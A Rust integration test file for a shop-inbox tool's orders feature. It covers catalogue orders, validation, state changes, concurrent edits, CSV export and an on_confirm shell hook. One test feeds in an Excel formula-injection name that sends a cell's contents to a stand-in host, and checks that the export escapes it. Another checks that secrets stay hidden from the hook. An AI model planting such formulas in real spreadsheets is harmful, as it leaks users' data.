//! Orders (issue 27) through the binary: taken from a conversation with the shop's catalogue,
//! checked as a shop would, moved along their life, found again by the buyer's phone on
//! another page, and listed as CSV that Excel reads.

use crate::common;

use common::TestWorld;
use serde_json::Value;

/// An order for Lan of the test inbox's shop (`t_lan`): one dress, paid on delivery.
fn one_dress_for_lan() -> pagedesk::store::orders::NewOrder {
    use pagedesk::store::orders::{NewOrder, OrderLine, Payment};
    NewOrder {
        conversation_id: "t_lan".into(),
        customer_name: None,
        phone: "0912345678".into(),
        address: "12 Lê Lợi".into(),
        lines: vec![OrderLine {
            code: None,
            name: "Váy".into(),
            variant: None,
            quantity: 1,
            price: 350_000,
        }],
        shipping_fee: 0,
        discount: 0,
        paid_by: Payment::Cod,
        note: String::new(),
    }
}

const CATALOGUE: &str = "\u{feff}code,name,variant,price,stock\n\
    VH-M,Váy hoa nhí,M,350.000,4\n\
    AT01,\"Áo thun, cổ tròn\",Trắng,150k,10\n";

/// A world whose config names a catalogue, with a buyer on page 0: her conversation.
async fn shop() -> (TestWorld, String) {
    shop_syncing("").await
}

/// [`shop`], its `[sync]` section as given.
async fn shop_syncing(sync: &str) -> (TestWorld, String) {
    let (world, lan) = TestWorld::with_a_buyer(sync).await;
    let path = world.data_dir.join("catalogue.csv");
    std::fs::write(&path, CATALOGUE).unwrap();
    let mut config = std::fs::read_to_string(&world.config_path).unwrap();
    config.push_str(&format!("\n[orders]\ncatalogue = \"{}\"\n", path.display()));
    std::fs::write(&world.config_path, config).unwrap();
    (world, lan)
}

async fn take(world: &TestWorld, conversation: &str, extra: &[&str]) -> common::Run {
    let mut args = vec!["order", "new", conversation];
    args.extend_from_slice(extra);
    world.pagedesk(&args).await
}

async fn orders_json(world: &TestWorld) -> Vec<Value> {
    let run = world.pagedesk(&["orders", "--json"]).await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    run.json().as_array().unwrap().clone()
}

#[tokio::test]
async fn an_order_is_taken_from_the_catalogue_with_its_totals_and_what_to_collect() {
    let (world, lan) = shop().await;
    let run = take(
        &world,
        &lan,
        &[
            "--item",
            "vh-m:2",
            "--line",
            "Túi quà: gói đẹp:1:20k",
            "--phone",
            "0912.345.678",
            "--address",
            "12 Lê Lợi, Quận 1, TP.HCM",
            "--shipping",
            "30k",
        ],
    )
    .await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout.contains("#1 ") && run.stdout.contains("total 750.000đ (collect 750.000đ)"),
        "{}",
        run.stdout
    );
    let orders = orders_json(&world).await;
    let order = &orders[0];
    assert_eq!(order["phone"], "0912345678");
    assert_eq!(order["customer_name"], "Nguyễn Thị Lan");
    assert_eq!(order["state"], "new");
    assert_eq!(order["lines"][0]["code"], "VH-M");
    assert_eq!(order["lines"][0]["price"], 350_000);
    assert_eq!(order["lines"][1]["name"], "Túi quà: gói đẹp");
    assert_eq!(order["total"], 750_000);
    // Paid by transfer: nothing to collect.
    let run = take(
        &world,
        &lan,
        &[
            "--item",
            "AT01",
            "--phone",
            "0912345678",
            "--address",
            "12 Lê Lợi",
            "--transfer",
        ],
    )
    .await;
    assert!(
        run.stdout.contains("total 150.000đ (collect 0đ)"),
        "{}",
        run.stdout
    );
    // The numbers count both, as the order's page and staff member took them.
    let stats = world.pagedesk(&["stats", "--json"]).await.json();
    let page = stats["pages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|row| row["orders"] == 2)
        .unwrap_or_else(|| panic!("a page with the two orders: {stats:#}"));
    assert_eq!(page["revenue"], 900_000);
    let today: i64 = stats["orders_per_day"]
        .as_array()
        .unwrap()
        .iter()
        .map(|day| day["orders"].as_i64().unwrap())
        .sum();
    assert_eq!(today, 2);
    let text = world.pagedesk(&["stats"]).await.stdout;
    assert!(text.contains("2 orders, 900.000đ"), "{text}");
    // A period longer than the calendar holds lists every order.
    let all = world.pagedesk(&["orders", "--since", "99999999999d"]).await;
    assert_eq!(all.code, 0, "{}", all.stderr);
    assert!(all.stdout.contains("#2 "), "{}", all.stdout);
}

#[tokio::test]
async fn an_order_a_shop_would_refuse_is_refused_with_nothing_kept() {
    let (world, lan) = shop().await;
    let address = ["--address", "12 Lê Lợi"];
    for (extra, said) in [
        (vec!["--phone", "0912345678"], "at least one line"),
        (
            vec!["--item", "VH-M", "--phone", "12345"],
            "12345 is not a Vietnamese phone number",
        ),
        (
            vec!["--item", "XX-9", "--phone", "0912345678"],
            "no product XX-9",
        ),
        (
            vec!["--item", "VH-M:hai", "--phone", "0912345678"],
            "hai is not an amount",
        ),
        (
            vec![
                "--item",
                "VH-M",
                "--phone",
                "0912345678",
                "--discount",
                "1tr",
            ],
            "the discount is larger",
        ),
    ] {
        let mut args = extra.clone();
        args.extend_from_slice(&address);
        let run = take(&world, &lan, &args).await;
        assert_ne!(run.code, 0, "{extra:?}: {}", run.stdout);
        assert!(run.stderr.contains(said), "{extra:?}: {}", run.stderr);
    }
    let run = take(&world, &lan, &["--item", "VH-M", "--phone", "0912345678"]).await;
    assert!(run.stderr.contains("delivery address"), "{}", run.stderr);
    assert!(orders_json(&world).await.is_empty());
}

#[tokio::test]
async fn an_order_moves_along_its_life_and_who_did_what_is_kept() {
    let (world, lan) = shop().await;
    take(
        &world,
        &lan,
        &[
            "--item",
            "VH-M",
            "--phone",
            "0912345678",
            "--address",
            "12 Lê Lợi",
        ],
    )
    .await;
    let step = |args: Vec<&'static str>| {
        let world = &world;
        async move {
            let mut all = vec!["order", "1"];
            all.extend(args);
            world.pagedesk(&all).await
        }
    };
    assert_eq!(step(vec!["confirm"]).await.code, 0);
    let no_tracking = step(vec!["ship", "--carrier", "GHN"]).await;
    assert_ne!(no_tracking.code, 0);
    assert!(
        no_tracking.stderr.contains("tracking code"),
        "{}",
        no_tracking.stderr
    );
    let shipped = step(vec!["ship", "--carrier", "GHN", "--tracking", "GHN123456"]).await;
    assert!(
        shipped.stdout.contains("shipped · GHN GHN123456"),
        "{}",
        shipped.stdout
    );
    assert_eq!(step(vec!["deliver"]).await.code, 0);
    let late = step(vec!["cancel"]).await;
    assert!(
        late.stderr
            .contains("a delivered order cannot become cancelled"),
        "{}",
        late.stderr
    );
    let order = &orders_json(&world).await[0];
    let history: Vec<&str> = order["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["state"].as_str().unwrap())
        .collect();
    assert_eq!(history, ["new", "confirmed", "shipped", "delivered"]);
    assert_eq!(order["history"][2]["detail"], "GHN GHN123456");
    assert_eq!(order["version"], 4);
    let missing = world.pagedesk(&["order", "99", "confirm"]).await;
    assert!(
        missing.stderr.contains("no order #99"),
        "{}",
        missing.stderr
    );
}

#[tokio::test]
async fn a_buyer_who_returned_a_parcel_on_one_page_is_flagged_on_another() {
    let (world, lan) = shop().await;
    take(
        &world,
        &lan,
        &[
            "--item",
            "VH-M",
            "--phone",
            "0912 345 678",
            "--address",
            "12 Lê Lợi",
        ],
    )
    .await;
    for action in ["confirm", "ship", "return"] {
        let run = world
            .pagedesk(&[
                "order",
                "1",
                action,
                "--carrier",
                "GHTK",
                "--tracking",
                "S1",
            ])
            .await;
        assert_eq!(run.code, 0, "{action}: {}", run.stderr);
    }
    // The same buyer on the other page: Facebook gives her another id there.
    let other = world
        .buyer_writes(1, "Lan Nguyễn", "Cho chị 1 cái áo", "inbox", 30)
        .await;
    world.sync().await;
    let run = take(
        &world,
        &other,
        &[
            "--item",
            "AT01",
            "--phone",
            "+84 912 345 678",
            "--address",
            "12 Lê Lợi",
        ],
    )
    .await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout
            .contains("⚠ This phone number's earlier orders: 1 returned"),
        "{}",
        run.stdout
    );
    // Her customer panel on the second page says so too.
    let store = world.store();
    let customer = store.customer(&other.as_str().into()).unwrap().unwrap();
    let states: Vec<(String, usize)> = customer
        .orders
        .iter()
        .map(|(state, count)| (state.to_string(), *count))
        .collect();
    assert_eq!(states, [("new".into(), 1), ("returned".into(), 1)]);
}

#[test]
fn her_row_and_customer_panel_say_where_her_orders_are() {
    use crossterm::event::KeyCode;
    use pagedesk::orders::OrderState;
    use pagedesk::store::orders::OrderMove;
    let mut inbox = common::inbox::Inbox::new(100, 30);
    let mut store = inbox.store();
    let order = one_dress_for_lan();
    let now = chrono::Utc::now();
    for returned in [false, true] {
        let id = store.create_order(&order, now).unwrap();
        let path = match returned {
            true => &[
                OrderState::Confirmed,
                OrderState::Shipped,
                OrderState::Returned,
            ][..],
            false => &[OrderState::Confirmed][..],
        };
        for to in path {
            let change = OrderMove {
                to: *to,
                seen_version: None,
                run_hook: false,
                carrier: Some("GHN".into()),
                tracking: Some("1".into()),
            };
            store.move_order(id, &change, now).unwrap();
        }
    }
    // Her row says where her newest order is.
    inbox.app.poll_database();
    let screen = inbox.screen();
    assert!(screen.contains("[order returned]"), "{screen}");
    // 9: the conversations with an order to confirm or ship (her first is confirmed).
    inbox.key(KeyCode::Char('9'));
    let screen = inbox.screen();
    assert!(screen.contains("Orders (1)"), "{screen}");
    inbox.key(KeyCode::Enter);
    inbox.key(KeyCode::Esc);
    inbox.key(KeyCode::Char('c'));
    let screen = inbox.screen();
    assert!(
        screen.contains("Orders (every page): 1 confirmed, 1 returned"),
        "{screen}"
    );
}

#[tokio::test]
async fn orders_as_csv_open_in_excel_with_their_vietnamese_and_named_columns() {
    let (world, lan) = shop().await;
    take(
        &world,
        &lan,
        &[
            "--item",
            "AT01:3",
            "--phone",
            "0912345678",
            "--address",
            "Số 5, ngõ 12, Đống Đa, Hà Nội",
            "--note",
            "-Giao giờ hành chính",
            // A name a buyer (or a prank) could give, that Excel would run as a formula.
            "--name",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Lan\")",
        ],
    )
    .await;
    let output = world.command(&["orders", "--csv"]).output().await.unwrap();
    assert!(output.status.success());
    // Excel takes UTF-8 only after its byte order mark.
    assert!(output.stdout.starts_with(b"\xEF\xBB\xBF"));
    let mut reader = csv::Reader::from_reader(&output.stdout[3..]);
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(header, pagedesk::cli::ORDER_CSV_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    let field = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
    assert_eq!(field("address"), "Số 5, ngõ 12, Đống Đa, Hà Nội");
    assert_eq!(field("items"), "3 × AT01 Áo thun, cổ tròn (Trắng) 150.000đ");
    assert_eq!(field("total"), "450000");
    assert_eq!(field("cod_amount"), "450000");
    // Taken as the note though it starts like an option, and kept from reading as a formula.
    assert_eq!(field("note"), "'-Giao giờ hành chính");
    assert_eq!(
        field("customer"),
        "'=HYPERLINK(\"http://x.example/?\"&A1,\"Lan\")",
        "read as text, not run"
    );
}

#[tokio::test]
async fn two_staff_changing_one_order_at_once_the_second_is_told_not_laid_over() {
    let (world, lan) = shop().await;
    take(
        &world,
        &lan,
        &[
            "--item",
            "VH-M",
            "--phone",
            "0912345678",
            "--address",
            "12 Lê Lợi",
        ],
    )
    .await;
    let seen = orders_json(&world).await[0]["version"].as_i64().unwrap();
    let seen = seen.to_string();
    // Lan and Minh both looked at version 1; each changes it from a pagedesk of their own,
    // at the same moment.
    let as_staff = |staff: &'static str, action: &'static str| {
        world
            .command(&["order", "1", action, "--seen", &seen])
            .env("PAGEDESK_STAFF", staff)
            .output()
    };
    let (lan_run, minh_run) = tokio::join!(as_staff("Lan", "confirm"), as_staff("Minh", "cancel"));
    let (lan_run, minh_run) = (
        common::Run::from(lan_run.unwrap()),
        common::Run::from(minh_run.unwrap()),
    );
    let (won, lost, winner) = match (lan_run.code, minh_run.code) {
        (0, _) => (lan_run, minh_run, "Lan"),
        _ => (minh_run, lan_run, "Minh"),
    };
    assert_eq!(won.code, 0, "{}", won.stderr);
    assert_ne!(lost.code, 0, "both went through: {}", lost.stdout);
    assert!(
        lost.stderr
            .contains(&format!("{winner} changed this order meanwhile")),
        "{}",
        lost.stderr
    );
    let order = &orders_json(&world).await[0];
    assert_eq!(order["version"], 2, "one change only: {order}");
    assert_eq!(order["history"].as_array().unwrap().len(), 2);
}

/// A world whose config runs `command` when an order is confirmed, with an order taken for Lan.
async fn shop_with_hook(command: &str) -> TestWorld {
    // A running engine's rounds a second apart: a confirmed order's command runs at once.
    let (world, lan) = shop_syncing("interval = \"1s\"").await;
    let mut config = std::fs::read_to_string(&world.config_path).unwrap();
    config.push_str(&format!("on_confirm = '''{command}'''\n"));
    std::fs::write(&world.config_path, config).unwrap();
    let run = take(
        &world,
        &lan,
        &[
            "--item",
            "VH-M:2",
            "--phone",
            "0912345678",
            "--address",
            "12 Lê Lợi",
        ],
    )
    .await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    world
}

/// Waits until `file` has `lines` lines; what it holds then.
async fn lines_in(file: &std::path::Path, lines: usize) -> Vec<String> {
    let start = std::time::Instant::now();
    loop {
        let text = std::fs::read_to_string(file).unwrap_or_default();
        let found: Vec<String> = text.lines().map(str::to_owned).collect();
        if found.len() >= lines {
            return found;
        }
        assert!(start.elapsed().as_secs() < 20, "{file:?}: {found:?}");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn on_confirm_runs_once_with_the_order_though_several_pagedesks_sync() {
    let dir = tempfile::tempdir().unwrap();
    let pushed = dir.path().join("pushed.jsonl");
    let world = shop_with_hook(&format!("cat >> {0}; echo >> {0}", pushed.display())).await;
    let first = common::Service::start(&world);
    let start = std::time::Instant::now();
    while !first.leads() {
        assert!(start.elapsed().as_secs() < 20, "the first sync never led");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    // A second one stands by beside it.
    let mut second = common::Service::start(&world);
    let run = world.pagedesk(&["order", "1", "confirm"]).await;
    assert!(
        run.stdout.contains("on_confirm: waiting for the engine"),
        "{}",
        run.stdout
    );
    // A person's sync beside the two services leaves it to the one that leads.
    let once = world.pagedesk(&["sync", "--once"]).await;
    assert!(
        once.stderr.contains("runs the sync engine"),
        "{}",
        once.stderr
    );
    let pushed_lines = lines_in(&pushed, 1).await;
    // More rounds of the engine: nothing more.
    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
    assert_eq!(lines_in(&pushed, 1).await, pushed_lines);
    assert_eq!(pushed_lines.len(), 1, "{pushed_lines:?}");
    let order: Value = serde_json::from_str(&pushed_lines[0]).unwrap();
    assert_eq!(order["id"], 1);
    assert_eq!(order["state"], "confirmed");
    assert_eq!(order["lines"][0]["code"], "VH-M");
    assert_eq!(order["total"], 700_000);
    let listed = world.pagedesk(&["orders"]).await;
    assert!(
        listed.stdout.contains("on_confirm: done"),
        "{}",
        listed.stdout
    );
    // The one standing by ends on Ctrl-C; the leader on SIGTERM, giving up its lease.
    let pid = second.child.id().unwrap() as i32;
    // SAFETY: a plain kill(2) of our own child.
    assert_eq!(unsafe { libc::kill(pid, libc::SIGINT) }, 0);
    let ended = tokio::time::timeout(std::time::Duration::from_secs(7), second.child.wait())
        .await
        .expect("the second sync still runs 7 s after Ctrl-C")
        .unwrap();
    assert_eq!(ended.code(), Some(0));
    first.stops_cleanly(&world, libc::SIGTERM).await;
}

#[tokio::test]
async fn a_failed_on_confirm_is_shown_on_the_order_and_runs_again_only_when_staff_ask() {
    let dir = tempfile::tempdir().unwrap();
    let runs = dir.path().join("runs");
    let world = shop_with_hook(&format!(
        "echo run >> {}; echo 'POS khong tra loi' >&2; exit 3",
        runs.display()
    ))
    .await;
    world.pagedesk(&["order", "1", "confirm"]).await;
    world.sync().await;
    world.sync().await;
    assert_eq!(lines_in(&runs, 1).await.len(), 1);
    let listed = world.pagedesk(&["orders"]).await;
    assert!(
        listed.stdout.contains(
            "on_confirm failed: exit 3: POS khong tra loi (again: pagedesk order 1 hook)"
        ),
        "{}",
        listed.stdout
    );
    let again = world.pagedesk(&["order", "1", "hook"]).await;
    assert_eq!(again.code, 0, "{}", again.stderr);
    world.sync().await;
    assert_eq!(lines_in(&runs, 2).await.len(), 2);
    let not_failed = world.pagedesk(&["order", "2", "hook"]).await;
    assert_ne!(not_failed.code, 0);
}

#[test]
fn two_engines_claiming_on_confirm_at_once_claim_each_order_once() {
    use pagedesk::orders::OrderState;
    use pagedesk::store::orders::OrderMove;
    let dir = tempfile::tempdir().unwrap();
    let mut store = common::inbox::store_with_shop(dir.path());
    let order = one_dress_for_lan();
    let now = chrono::Utc::now();
    for _ in 0..40 {
        let id = store.create_order(&order, now).unwrap();
        let confirm = OrderMove {
            to: OrderState::Confirmed,
            seen_version: None,
            run_hook: true,
            carrier: None,
            tracking: None,
        };
        store.move_order(id, &confirm, now).unwrap();
    }
    let start = std::sync::Arc::new(std::sync::Barrier::new(2));
    let claimers: Vec<_> = (0..2)
        .map(|_| {
            let (dir, start) = (dir.path().to_owned(), start.clone());
            std::thread::spawn(move || {
                let mut engine = pagedesk::store::Store::open(&dir).unwrap();
                let mut claimed = Vec::new();
                start.wait();
                // Each claim then the command's run: the two engines' claims interleave.
                while let Some(order) = engine
                    .claim_order_hook(chrono::Utc::now() + chrono::Duration::seconds(60))
                    .unwrap()
                {
                    claimed.push(order.id);
                    std::thread::sleep(std::time::Duration::from_millis(2));
                    // A claim that claims nothing would go on for ever.
                    if claimed.len() > 40 {
                        break;
                    }
                }
                claimed
            })
        })
        .collect();
    let claimed: Vec<Vec<i64>> = claimers.into_iter().map(|c| c.join().unwrap()).collect();
    assert!(
        claimed.iter().all(|c| !c.is_empty()),
        "both reached the race: {claimed:?}"
    );
    let mut all: Vec<i64> = claimed.concat();
    all.sort_unstable();
    assert_eq!(all, (1..=40).collect::<Vec<i64>>());
}

#[tokio::test]
async fn the_orders_summary_goes_to_the_buyer_once_through_the_outbox() {
    let (world, lan) = shop().await;
    take(
        &world,
        &lan,
        &[
            "--item",
            "VH-M:2",
            "--phone",
            "0912345678",
            "--address",
            "12 Lê Lợi, Q1",
            "--shipping",
            "30k",
        ],
    )
    .await;
    let sent = world.pagedesk(&["order", "1", "send"]).await;
    assert_eq!(sent.code, 0, "{}", sent.stderr);
    world.sync().await;
    let texts = world.page_texts_on_facebook(&lan).await;
    assert_eq!(texts.len(), 1, "{texts:?}");
    assert_eq!(
        texts[0],
        "Your order #1 with the shop:\n- 2 × VH-M Váy hoa nhí (M) 350.000đ\nShipping: 30.000đ\n\
         Total: 730.000đ, paid to the courier on delivery\nDelivered to: 12 Lê Lợi, Q1 · phone 0912345678"
    );
    let missing = world.pagedesk(&["order", "7", "send"]).await;
    assert!(missing.stderr.contains("no order #7"), "{}", missing.stderr);
}

#[tokio::test]
async fn a_slow_on_confirm_holds_up_no_sync_and_is_stopped_whole_when_its_time_is_up() {
    let dir = tempfile::tempdir().unwrap();
    let pid_file = dir.path().join("sleep.pid");
    // The command leaves a child of its own running, as a script calling a slow API does.
    let world = shop_with_hook(&format!(
        "sleep 300 & echo $! > {}; wait",
        pid_file.display()
    ))
    .await;
    let mut config = std::fs::read_to_string(&world.config_path).unwrap();
    config.push_str("on_confirm_timeout = \"3s\"\n");
    std::fs::write(&world.config_path, config).unwrap();
    assert_eq!(world.pagedesk(&["order", "1", "confirm"]).await.code, 0);
    let service = common::Service::start(&world);
    let sleeper: u32 = lines_in(&pid_file, 1).await[0].parse().unwrap();
    let alive = pagedesk::sync::process_alive;
    assert!(alive(sleeper));
    let listed = world.pagedesk(&["orders"]).await.stdout;
    assert!(listed.contains("on_confirm: running"), "{listed}");
    // A buyer writing meanwhile is synced within the service's round, not after the command.
    let asked = std::time::Instant::now();
    let conversation = world
        .buyer_writes(0, "Trần Văn Minh", "Shop ơi còn áo không?", "inbox", 0)
        .await;
    loop {
        let known = world.conversations(&[]).await;
        if common::find(&known, &conversation).is_some() {
            break;
        }
        assert!(
            asked.elapsed().as_secs() < 3,
            "the sync waited for on_confirm"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    // Its time up, the command is stopped with what it started, and the order says so.
    let start = std::time::Instant::now();
    while alive(sleeper) {
        assert!(start.elapsed().as_secs() < 10, "sleep {sleeper} runs on");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let start = std::time::Instant::now();
    loop {
        let listed = world.pagedesk(&["orders"]).await.stdout;
        if listed.contains("still running after 3 s: stopped") {
            break;
        }
        assert!(start.elapsed().as_secs() < 10, "{listed}");
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    service.stops_cleanly(&world, libc::SIGTERM).await;
}

#[tokio::test]
async fn on_confirm_sees_no_secret_says_none_and_pushes_no_cancelled_order() {
    let dir = tempfile::tempdir().unwrap();
    let (env_file, runs) = (dir.path().join("env"), dir.path().join("runs"));
    let world = shop_with_hook(&format!(
        "echo run >> {runs}; env > {env}; echo \"POS said: token $PAGE_TOKEN_ECHO\" >&2; exit 1",
        runs = runs.display(),
        env = env_file.display()
    ))
    .await;
    // The webhook's verify token is read from the environment: the command must not see it.
    let mut config = std::fs::read_to_string(&world.config_path).unwrap();
    config = config.replacen(
        "[orders]",
        "[webhook]\nverify_token_env = \"PD_VERIFY\"\n\n[orders]",
        1,
    );
    std::fs::write(&world.config_path, &config).unwrap();
    let token = config
        .lines()
        .find_map(|line| line.strip_prefix("access_token = \""))
        .map(|rest| rest.trim_end_matches('"').to_owned())
        .expect("the page's token in the config");
    let with_env = |args: &[&str]| {
        let mut command = world.command(args);
        command
            .env("PD_VERIFY", "verify-secret-123456")
            .env("PAGE_TOKEN_ECHO", &token);
        command
    };
    // A second order, confirmed then cancelled before any engine ran: pushed to no one.
    let lan = world.conversations(&[]).await[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    take(
        &world,
        &lan,
        &[
            "--item",
            "AT01",
            "--phone",
            "0912345678",
            "--address",
            "12 Lê Lợi",
        ],
    )
    .await;
    for args in [
        ["order", "2", "confirm"],
        ["order", "2", "cancel"],
        ["order", "1", "confirm"],
    ] {
        assert!(
            with_env(&args).status().await.unwrap().success(),
            "{args:?}"
        );
    }
    assert!(
        with_env(&["sync", "--once"])
            .status()
            .await
            .unwrap()
            .success()
    );
    assert_eq!(lines_in(&runs, 1).await.len(), 1, "order 1's only");
    let seen = std::fs::read_to_string(&env_file).unwrap();
    assert!(
        !seen.contains("verify-secret-123456") && !seen.contains("PD_VERIFY"),
        "{seen}"
    );
    let orders = orders_json(&world).await;
    let hook_error = |id: i64| {
        orders
            .iter()
            .find(|o| o["id"] == id)
            .map(|o| o["hook_error"].clone())
            .unwrap()
    };
    let said = hook_error(1).as_str().unwrap_or_default().to_owned();
    assert!(said.contains("POS said: token"), "{said}");
    assert!(
        !said.contains(&token),
        "the token kept from its words: {said}"
    );
    assert_eq!(hook_error(2), serde_json::Value::Null);
    let cancelled = orders.iter().find(|o| o["id"] == 2).unwrap();
    assert_eq!(
        cancelled["hook_state"],
        serde_json::Value::Null,
        "{cancelled}"
    );
}

/// The store checks what it keeps whoever asks (a script on the library, a pagedesk to come):
/// amounts below zero, a quantity of none, a total past what an amount holds or below zero.
#[test]
fn the_store_refuses_an_order_no_shop_would_keep_whoever_asks() {
    use pagedesk::orders::OrderRefusal;
    use pagedesk::store::StoreError;
    let dir = tempfile::tempdir().unwrap();
    let mut store = common::inbox::store_with_shop(dir.path());
    let now = chrono::Utc::now();
    let refused = |store: &mut pagedesk::store::Store,
                   change: fn(&mut pagedesk::store::orders::NewOrder)| {
        let mut order = one_dress_for_lan();
        change(&mut order);
        match store.create_order(&order, now) {
            Err(StoreError::Order(refusal)) => refusal,
            other => panic!("kept: {other:?}"),
        }
    };
    assert!(matches!(
        refused(&mut store, |o| o.lines[0].quantity = 0),
        OrderRefusal::Amount(_)
    ));
    assert!(matches!(
        refused(&mut store, |o| o.lines[0].price = -1),
        OrderRefusal::Amount(_)
    ));
    assert!(matches!(
        refused(&mut store, |o| o.shipping_fee = -1),
        OrderRefusal::Amount(_)
    ));
    assert!(matches!(
        refused(&mut store, |o| o.discount = -1),
        OrderRefusal::Amount(_)
    ));
    assert_eq!(
        refused(&mut store, |o| o.discount = 350_001),
        OrderRefusal::BelowZero
    );
    assert_eq!(
        refused(&mut store, |o| o.lines[0].price =
            pagedesk::orders::MAX_DONG + 1),
        OrderRefusal::TooLarge
    );
    // At the edges, kept: a free gift, a discount to nothing, the largest amount.
    for change in [
        (|o: &mut pagedesk::store::orders::NewOrder| o.lines[0].price = 0) as fn(&mut _),
        |o| o.discount = 350_000,
        |o| o.lines[0].price = pagedesk::orders::MAX_DONG,
    ] {
        let mut order = one_dress_for_lan();
        change(&mut order);
        assert!(store.create_order(&order, now).is_ok());
    }
    assert_eq!(
        store
            .orders(now - chrono::Duration::days(1), None)
            .unwrap()
            .len(),
        3
    );
}

#[tokio::test]
async fn after_a_restore_a_confirmed_orders_command_waits_for_staff_and_is_not_run_twice() {
    // A restore puts back a data directory's database: on PostgreSQL it is pg_restore's.
    if common::on_postgres() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let pushed = dir.path().join("pushed.jsonl");
    let world = shop_with_hook(&format!("cat >> {0}; echo >> {0}", pushed.display())).await;
    let confirmed = world.pagedesk(&["order", "1", "confirm"]).await;
    assert_eq!(confirmed.code, 0, "{}", confirmed.stderr);
    // The backup is taken while the command is due; it runs after.
    let file = dir.path().join("backup.db");
    let backup = world.pagedesk(&["backup", file.to_str().unwrap()]).await;
    assert_eq!(backup.code, 0, "{}", backup.stderr);
    world.sync().await;
    assert_eq!(lines_in(&pushed, 1).await.len(), 1);
    let restored = world.pagedesk(&["restore", file.to_str().unwrap()]).await;
    assert_eq!(restored.code, 0, "{}", restored.stderr);
    world.sync().await;
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert_eq!(lines_in(&pushed, 1).await.len(), 1, "not run a second time");
    let listed = world.pagedesk(&["orders"]).await;
    assert!(
        listed.stdout.contains("restored from a backup"),
        "staff see why it waits: {}",
        listed.stdout
    );
}
